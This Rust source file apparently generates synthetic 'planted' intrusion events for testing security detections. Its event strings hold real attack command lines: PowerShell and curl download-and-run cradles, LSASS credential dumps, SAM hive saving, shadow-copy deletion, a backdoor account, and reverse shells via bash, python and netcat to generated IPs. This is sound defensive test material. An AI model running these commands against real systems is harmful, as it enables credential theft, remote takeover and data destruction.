//! The planted share: intrusion activity written the way public reports and
//! SigmaHQ's own test data show it (the DEV-0228 tools the seed pack hunts,
//! LSASS dumps, download cradles, shadow-copy deletion, reverse shells).
//! These are the events meant to raise alerts.

use base64::Engine as _;
use trawl_engine::event::{EventKind, Os};

use super::rng::Rng;
use super::{Activity, FileOp, PeMeta, Proc};

const CMD: (&str, &str) = (r"C:\Windows\System32\cmd.exe", r"cmd.exe /Q /c");
const WMIPRVSE: (&str, &str) = (
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
);

const NONE: PeMeta = PeMeta {
    original: "",
    description: "",
    company: "",
    product: "",
};

/// One planted activity.
pub fn planted(rng: &mut Rng, user: &str) -> Activity {
    let ip = rng.public_ip();
    let home = format!(r"C:\Users\{user}");
    let win = |image: &str, cmd: String, meta: PeMeta, parent: (&str, &str)| {
        Activity::Process(Os::Windows, Proc::person(user, image, cmd, meta, parent))
    };
    let linux = |image: &str, cmd: String| {
        Activity::Process(
            Os::Linux,
            Proc::linux(
                "www-data",
                image,
                cmd,
                ("/usr/bin/dash", "sh -c"),
                "/var/www/html",
            ),
        )
    };
    match rng.below(20) {
        // The seed pack's DEV-0228 tools.
        0 => win(
            r"C:\Windows\PSEXESVC\paexec.exe",
            format!(r"paexec.exe \\LF-FS01 -s -d cmd.exe /c C:\Windows\TAPI\pa.exe {ip}"),
            NONE,
            CMD,
        ),
        1 => win(
            r"C:\Windows\TAPI\lsa.exe",
            r"C:\Windows\TAPI\lsa.exe -p 443".to_owned(),
            NONE,
            CMD,
        ),
        2 => Activity::File(FileOp {
            os: Os::Windows,
            kind: EventKind::FileCreate,
            image: r"C:\Windows\System32\cmd.exe".to_owned(),
            target: format!(r"C:\Windows\TAPI\{}", rng.pick(&["pa.exe", "pc.exe", "Rar.exe", "lsa.exe"])),
            user: r"NT AUTHORITY\SYSTEM".to_owned(),
        }),
        3 => win(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            format!(
                "powershell.exe -nop -w hidden -c (iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{}'))))",
                base64::engine::general_purpose::STANDARD.encode(format!("iwr http://{ip}/a.ps1 -UseBasicParsing | iex"))
            ),
            PeMeta::windows("PowerShell.EXE", "Windows PowerShell"),
            CMD,
        ),
        4 => win(
            r"C:\Users\Public\procdump64.exe",
            r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp".to_owned(),
            PeMeta {
                original: "procdump",
                description: "Sysinternals process dump utility",
                company: "Sysinternals - www.sysinternals.com",
                product: "ProcDump",
            },
            CMD,
        ),
        5 => win(
            r"C:\Users\Public\Libraries\svchost.exe",
            r"C:\Users\Public\Libraries\svchost.exe -k netsvcs".to_owned(),
            NONE,
            WMIPRVSE,
        ),
        // Common SigmaHQ detections.
        6 => win(
            r"C:\Windows\System32\rundll32.exe",
            format!(r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\lsass.dmp full", rng.range(500, 900)),
            PeMeta::windows("RUNDLL32.EXE", "Windows host process (Rundll32)"),
            CMD,
        ),
        7 => win(
            r"C:\Windows\System32\certutil.exe",
            format!(r"certutil.exe -urlcache -split -f http://{ip}/update.exe C:\Users\Public\update.exe"),
            PeMeta::windows("CertUtil.exe", "CertUtil.exe"),
            CMD,
        ),
        8 => win(
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet".to_owned(),
            PeMeta::windows("VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service "),
            CMD,
        ),
        9 => win(
            r"C:\Windows\System32\reg.exe",
            r"reg.exe save HKLM\SAM C:\Windows\Temp\sam.save /y".to_owned(),
            PeMeta::windows("reg.exe", "Registry Console Tool"),
            CMD,
        ),
        10 => win(
            r"C:\Windows\System32\schtasks.exe",
            format!(
                r#"schtasks.exe /create /tn "\Microsoft\Windows\Maintenance\Update" /tr "powershell.exe -w hidden -nop -c iex(New-Object Net.WebClient).DownloadString('http://{ip}/s')" /sc onlogon /ru SYSTEM /f"#
            ),
            PeMeta::windows("schtasks.exe", "Task Scheduler Configuration Tool"),
            CMD,
        ),
        11 => win(
            r"C:\Windows\System32\mshta.exe",
            format!("mshta.exe http://{ip}/index.hta"),
            PeMeta::windows("MSHTA.EXE", "Microsoft (R) HTML Application host"),
            (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        ),
        12 => win(
            r"C:\Windows\System32\bitsadmin.exe",
            format!(r"bitsadmin.exe /transfer job /download /priority high http://{ip}/p.exe {home}\AppData\Local\Temp\p.exe"),
            PeMeta::windows("bitsadmin.exe", "BITS administration utility"),
            CMD,
        ),
        13 => win(
            r"C:\Windows\System32\net1.exe",
            r"C:\Windows\system32\net1 user support_388945a0 P@ssw0rd! /add".to_owned(),
            PeMeta::windows("net1.exe", "Net Command"),
            CMD,
        ),
        14 => linux("/usr/bin/bash", format!("bash -i >& /dev/tcp/{ip}/4444 0>&1")),
        15 => linux("/usr/bin/curl", format!("curl -s http://{ip}/x.sh | bash")),
        16 => linux("/usr/bin/base64", "base64 -d /tmp/.ICE-unix/.x | bash".to_owned()),
        17 => linux(
            "/usr/bin/python3.11",
            format!(
                "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
            ),
        ),
        18 => linux("/usr/bin/nc", format!("nc -e /bin/sh {ip} 4444")),
        _ => Activity::File(FileOp {
            os: Os::Windows,
            kind: EventKind::FileCreate,
            image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".to_owned(),
            target: format!(r"{home}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.vbs"),
            user: format!(r"{}\{user}", super::words::DOMAIN),
        }),
    }
}
